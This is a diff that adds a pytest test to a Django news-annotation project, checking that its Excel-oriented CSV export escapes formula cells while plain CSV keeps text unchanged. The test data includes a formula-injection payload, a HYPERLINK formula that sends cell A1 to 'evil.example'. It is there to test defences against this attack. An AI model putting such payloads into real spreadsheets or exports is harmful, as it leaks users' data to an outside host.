@@ -73,3 +73,20 @@ def test_csv_says_which_events_lose_their_arguments(headline, project):
         "1 event(s) in 1 document(s) (000_f057059c50c62636) are not in csv: their triggers "
         "are rows (kind “trigger”), their arguments are not (use jsonl)"
     ]
+
+
+@pytest.mark.django_db
+def test_csv_for_excel_turns_formula_cells_into_text_and_plain_csv_keeps_them(project, reviewer):
+    from newsreview.annotations import services as annotate
+    from newsreview.documents.services import create_document
+
+    text = '=HYPERLINK("http://evil.example/?x="&A1,"click") حموشي'
+    document = create_document(project=project, text=text, title="t", external_id="=1+1")
+    layer = annotate.get_or_create_named_layer(document=document, name="gold")
+    annotate.add_span(layer=layer, start=0, end=len(text) - 6, label="ORG", by=reviewer)
+    excel = export_bytes(project, "csv", excel=True)[0].decode("utf-8-sig")
+    row = list(csv.reader(io.StringIO(excel, newline="")))[1]
+    assert (row[0], row[7]) == ("'=1+1", "'" + text[: len(text) - 6])
+    plain = export_bytes(project, "csv")[0].decode("utf-8")
+    row = list(csv.reader(io.StringIO(plain, newline="")))[1]
+    assert (row[0], row[7]) == ("=1+1", text[: len(text) - 6])  # the text, byte for byte
